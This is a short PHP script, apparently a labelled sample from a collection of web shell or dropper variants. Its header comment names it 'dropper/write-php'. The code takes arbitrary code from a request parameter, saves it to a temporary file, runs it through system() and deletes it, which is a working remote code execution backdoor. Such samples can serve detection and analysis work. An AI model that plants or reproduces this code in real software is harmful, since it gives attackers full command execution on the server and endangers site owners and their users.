<?php
/* Family: dropper/write-php
 * Style: code from the request saved to a temporary script, then run by an interpreter
 * Trait: merged POST/GET array element written with file_put_contents, the script started with system() and removed
 */
$in = array_merge($_POST, $_GET);
$code = $in['c'];
$lang = 'php';
$name = sys_get_temp_dir() . '/r' . md5(microtime());
file_put_contents($name, $code);
system($lang . ' ' . $name);
unlink($name);
